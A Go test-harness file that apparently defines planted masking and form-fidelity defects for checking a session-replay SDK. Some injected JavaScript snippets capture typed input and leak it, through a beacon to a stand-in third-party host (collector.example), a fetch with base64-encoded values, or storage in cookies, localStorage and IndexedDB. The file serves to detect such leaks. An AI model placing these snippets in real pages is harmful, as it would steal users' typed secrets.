package trust

import (
	"encoding/base64"
	"encoding/json"
	"strings"

	"replaylab/lab/event"
)

// Tables D and E of FIDELITY.md: masking, and the state of forms.

func claimed(name, target, kind, path string) Sign {
	return Sign{Claim: name, Target: target, Kind: kind, Path: path}
}

func leaked(secret string) Sign { return Sign{Claim: "no leak", Kind: "leak", Name: secret} }

// custom puts an event of the SDK's own into the recording.
func (t *tape) custom(payload any) {
	for _, h := range t.events {
		if h.typ == event.FullSnapshot {
			n := t.add(h, func(map[string]any) {})
			n.typ, n.all["type"] = event.Custom, json.Number("5")
			n.all["data"] = map[string]any{"tag": "note", "payload": payload}
			n.raw, _ = json.Marshal(n.all)
			return
		}
	}
}

var masking = []Defect{
	{
		Name: "password-in-clear", Section: "D", What: "what is typed into a password field is recorded", Scenario: "planted/masking",
		Caught: claimed("masked", "#pw", "in clear", at("pw")),
		Recording: func(t *tape) {
			pw := t.id("pw")
			for _, data := range t.of(event.Input) {
				if data["id"] == pw {
					data["text"] = t.secrets["password"]
				}
			}
		},
	},
	{
		Name: "masked-text-edited-in-clear", Section: "D", What: "masked text is recorded in clear once it changes", Scenario: "planted/masking",
		Caught: Sign{Claim: "masked", Target: "#masked", Checkpoint: "changed", Kind: "in clear", Path: at("masked") + ".childNodes[0]"},
		Recording: func(t *tape) {
			t.mutations("texts", func(r map[string]any) bool {
				if s, _ := r["value"].(string); strings.Contains(s, "***") {
					r["value"] = t.secrets["edited"]
				}
				return true
			})
		},
	},
	{
		Name: "masked-text-shown", Section: "D", What: "the player shows the text that the recording masks", Scenario: "planted/masking",
		Caught: Sign{Claim: "masked", Target: "#masked", Kind: "in clear", Path: at("masked") + ".childNodes[0]"},
		Replay: `if ($('#masked')) $('#masked').firstChild.data = 'a name in clear'`,
	},
	{
		Name: "secret-in-an-attribute", Section: "D", What: "an attribute carries what the text beside it masks", Scenario: "planted/masking",
		Caught:    leaked("name"),
		Recording: func(t *tape) { attrs(t.node("masked"))["data-original"] = t.secrets["name"] },
	},
	{
		Name: "secret-in-the-address", Section: "D", What: "the address of the page is recorded with a secret", Scenario: "planted/masking",
		Caught: leaked("email"),
		Recording: func(t *tape) {
			for _, h := range t.events {
				if h.typ == event.Meta {
					h.data["href"] = "https://shop.example/?mail=" + strings.ReplaceAll(t.secrets["email"], "@", "%40")
				}
			}
		},
	},
	{
		Name: "secret-in-base64", Section: "D", What: "an event of the SDK's own holds a secret in base64", Scenario: "planted/masking",
		Caught:    leaked("blocked"),
		Recording: func(t *tape) { t.custom(base64.StdEncoding.EncodeToString([]byte("box: " + t.secrets["blocked"]))) },
	},
	{
		Name: "secret-reversed", Section: "D", What: "a secret is recorded backwards", Scenario: "planted/masking",
		Caught:    leaked("tip"),
		Recording: func(t *tape) { t.custom(backwards(t.secrets["tip"])) },
	},
	{
		Name: "typing-in-clear-at-first", Section: "D", What: "the first characters that are typed are recorded before the mask is", Scenario: "planted/masking",
		Caught: leaked("password"),
		Recording: func(t *tape) {
			n := 0
			for _, data := range t.of(event.Input) {
				if s, _ := data["text"].(string); strings.Trim(s, "*") == "" && len(s) == 5 && n == 0 {
					data["text"] = t.secrets["password"][:5]
					n++
				}
			}
		},
	},
	{
		Name: "secret-in-local-storage", Section: "D", What: "the SDK keeps what is typed in local storage", Scenario: "planted/page",
		Caught: Sign{Claim: "no leak", Kind: "stored", Name: "name"},
		After:  `addEventListener('input', e => localStorage.setItem('replay-buffer', JSON.stringify([e.target.value])), true);`,
	},
	{
		Name: "secret-in-a-database", Section: "D", What: "the SDK keeps what is typed in a database of the browser", Scenario: "planted/page",
		Caught: Sign{Claim: "no leak", Kind: "stored", Name: "name"},
		After: `{ const asked = indexedDB.open('replay-events', 1);
			asked.onupgradeneeded = () => asked.result.createObjectStore('events', {keyPath: 'id'});
			addEventListener('input', e => asked.result?.transaction('events', 'readwrite').objectStore('events').put({id: 1, text: e.target.value}), true) }`,
	},
	{
		Name: "secret-in-a-cookie", Section: "D", What: "the SDK keeps what is typed in a cookie", Scenario: "planted/page",
		Caught: Sign{Claim: "no leak", Kind: "stored", Name: "name"},
		After:  `addEventListener('input', e => { document.cookie = 'sr=' + encodeURIComponent(e.target.value) }, true);`,
	},
	{
		Name: "secret-to-a-foreign-host", Section: "D", What: "a beacon with what is typed goes to a third party", Scenario: "planted/page",
		Caught: leaked("name"),
		After:  `addEventListener('change', () => {}); addEventListener('input', e => { if (e.target.value.length > 12) navigator.sendBeacon('https://collector.example/events', JSON.stringify({v: e.target.value})) }, true);`,
	},
	{
		Name: "secret-in-a-path", Section: "D", What: "the SDK asks the page's server for an address with a secret in it", Scenario: "planted/page",
		Caught: leaked("name"),
		After:  `addEventListener('input', e => { if (e.target.value.length > 12) void fetch('/ping/' + btoa(e.target.value)).catch(() => {}) }, true);`,
	},
	{
		Name: "secret-in-a-header", Section: "D", What: "a header of an upload carries a secret", Scenario: "planted/masking",
		Caught: leaked("name"),
		Recording: func(t *tape) {
			for i := range t.uploads {
				h := t.uploads[i].Header.Clone()
				h.Set("X-Replay-Context", "user="+t.secrets["name"])
				t.uploads[i].Header = h
			}
		},
	},
	{
		Name: "one-field-too-many", Section: "D", What: "a text that nobody asked to mask is masked", Scenario: "planted/masking",
		Caught:    claimed("unmasked", "#price", "masked too much", at("price")+".childNodes[0]"),
		Recording: func(t *tape) { child(t.node("price"), "")["textContent"] = "*****" },
	},
	{
		Name: "change-masked-too", Section: "D", What: "readable text is masked once it changes", Scenario: "planted/masking",
		Caught: Sign{Claim: "unmasked", Target: "#clear", Checkpoint: "changed", Kind: "masked too much", Path: at("clear") + ".childNodes[0]"},
		Recording: func(t *tape) {
			t.mutations("texts", func(r map[string]any) bool {
				if s, _ := r["value"].(string); strings.HasPrefix(s, "Everybody") {
					r["value"] = strings.Repeat("*", len(s))
				}
				return true
			})
		},
	},
	{
		Name: "readable-text-lost", Section: "D", What: "an element that may be read is left out with those that may not", Scenario: "planted/masking",
		Caught:    claimed("unmasked", "#price", "not recorded", at("price")+".childNodes[0]"),
		Recording: func(t *tape) { t.node("price")["childNodes"] = []any{} },
	},
	{
		Name: "mask-of-another-length", Section: "D", What: "a mask has another length than the text, against the SDK's word", Scenario: "planted/masking",
		Caught:    faithful("typed", "text", "", at("masked")+".childNodes[0]"),
		Recording: func(t *tape) { child(t.node("masked"), "")["textContent"] = "***" },
	},
	{
		Name: "blocked-content-recorded", Section: "D", What: "what is in a blocked element is recorded", Scenario: "planted/masking",
		Caught: claimed("blocked", "#box", "recorded inside", at("box")),
		Recording: func(t *tape) {
			t.blocked()["childNodes"] = []any{map[string]any{"type": json.Number("3"), "id": json.Number("9001"), "textContent": "an advertisement"}}
		},
	},
	{
		Name: "blocked-box-too-small", Section: "D", What: "the box of a blocked element has another size", Scenario: "planted/masking",
		Caught:    claimed("blocked", "#box", "another size", at("box")),
		Recording: func(t *tape) { attrs(t.blocked())["rr_width"] = "20px" },
	},
	{
		Name: "blocked-box-gone", Section: "D", What: "a blocked element is left out, box and all", Scenario: "planted/masking",
		Caught: claimed("blocked", "#box", "no box in its place", at("box")),
		Recording: func(t *tape) {
			body := t.node("body")
			body["childNodes"] = without(body["childNodes"], func(c map[string]any) bool { return attr(c, "rr_width") != "" })
		},
	},
	{
		Name: "blocked-attribute-recorded", Section: "D", What: "an attribute of a blocked element is recorded", Scenario: "planted/masking",
		Caught:    Sign{Claim: "blocked", Target: "#box", Kind: "attribute recorded", Name: "title", Path: at("box")},
		Recording: func(t *tape) { attrs(t.blocked())["title"] = t.secrets["tip"] },
	},
}

func backwards(s string) string {
	r := []rune(s)
	for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
		r[i], r[j] = r[j], r[i]
	}
	return string(r)
}

var forms = []Defect{
	{
		Name: "input-lost", Section: "E", What: "nothing that is entered is recorded", Scenario: "planted/forms",
		Caught:    faithful("filled", "property", "value*", at("text")),
		Recording: func(t *tape) { t.dropAll(event.Input) },
	},
	{
		Name: "last-letter-lost", Section: "E", What: "the last of what is typed does not arrive", Scenario: "planted/forms",
		Caught: faithful("filled", "property", "value", at("other")),
		Recording: func(t *tape) {
			other := t.id("other")
			var last *heard
			for _, h := range t.events {
				if h.source == event.Input && h.data["id"] == other {
					last = h
				}
			}
			t.drop(func(h *heard) bool { return h == last })
		},
	},
	{
		Name: "value-in-the-next-field", Section: "E", What: "a value is recorded for the wrong field", Scenario: "planted/forms",
		Caught: faithful("filled", "property", "value*", at("must")),
		Recording: func(t *tape) {
			other := t.id("other")
			for _, data := range t.of(event.Input) {
				if data["id"] == other {
					data["id"] = t.id("must")
				}
			}
		},
	},
	{
		Name: "check-lost", Section: "E", What: "a box that is checked stays empty", Scenario: "planted/forms",
		Caught: faithful("filled", "property", "checked", at("box")),
		Recording: func(t *tape) {
			box := t.id("box")
			for _, data := range t.of(event.Input) {
				if data["id"] == box {
					data["isChecked"] = false
				}
			}
		},
	},
	{
		Name: "other-radio-button", Section: "E", What: "another button of the group is chosen", Scenario: "planted/forms",
		Caught: faithful("filled", "property", "checked", at("r1")),
		Replay: `if ($('#r2')?.checked) $('#r1').checked = true`,
	},
	{
		Name: "choice-lost", Section: "E", What: "the player leaves a select at its first option", Scenario: "planted/forms",
		Caught: faithful("filled", "property", "value", at("one")),
		Replay: `if ($('#one')) $('#one').selectedIndex = 0`,
	},
	{
		Name: "label-of-nobody", Section: "E", What: "a label no longer names its field", Scenario: "fidelity/accessible",
		Caught: Sign{Claim: "accessible", Target: "form", Kind: "told otherwise", Name: "name", Path: at("name")},
		Replay: `$('label')?.setAttribute('for', 'nobody')`,
	},
	{
		Name: "role-taken-off", Section: "E", What: "an element loses the role that it was given", Scenario: "fidelity/accessible",
		Caught: Sign{Claim: "accessible", Target: "form", Kind: "told otherwise", Name: "role", Path: at("alert")},
		Replay: `$('#alert')?.removeAttribute('role')`,
	},
	{
		Name: "name-recorded-wrong", Section: "E", What: "a button is recorded with another name for assistive technology", Scenario: "fidelity/accessible",
		Caught:    Sign{Claim: "accessible", Target: "form", Kind: "told otherwise", Name: "name", Path: at("order")},
		Recording: func(t *tape) { attrs(t.node("order"))["aria-label"] = "Cancel" },
	},
	{
		Name: "option-text-changed", Section: "E", What: "an option has another text", Scenario: "planted/forms",
		Caught: faithful("loaded", "text", "", `document.querySelector("#one > option:nth-of-type(3)").childNodes[0]`),
		Recording: func(t *tape) {
			options := objects(t.node("one")["childNodes"])
			child(options[len(options)-1], "")["textContent"] = "d"
		},
	},
	{
		Name: "line-break-lost", Section: "E", What: "lines of a text area run into one", Scenario: "planted/forms",
		Caught: faithful("filled", "property", "value", at("area")),
		Recording: func(t *tape) {
			for _, data := range t.of(event.Input) {
				if s, ok := data["text"].(string); ok {
					data["text"] = strings.ReplaceAll(s, "\n", " ")
				}
			}
		},
	},
	{
		Name: "half-checked", Section: "E", What: "a box is neither checked nor not", Scenario: "planted/forms",
		Caught: faithful("filled", "property", "indeterminate", at("box")),
		Replay: `if ($('#box')) $('#box').indeterminate = true`,
	},
	{
		Name: "disabled-lost", Section: "E", What: "a field that cannot be used looks as if it could", Scenario: "planted/forms",
		Caught:    faithful("loaded", "attribute", "disabled*", at("more")),
		Recording: func(t *tape) { delete(attrs(t.node("more")), "disabled") },
	},
	{
		Name: "progress-stands-still", Section: "E", What: "a bar shows another progress", Scenario: "planted/forms",
		Caught:    faithful("loaded", "attribute", "value", at("progress")),
		Recording: func(t *tape) { attrs(t.node("progress"))["value"] = "4" },
	},
}
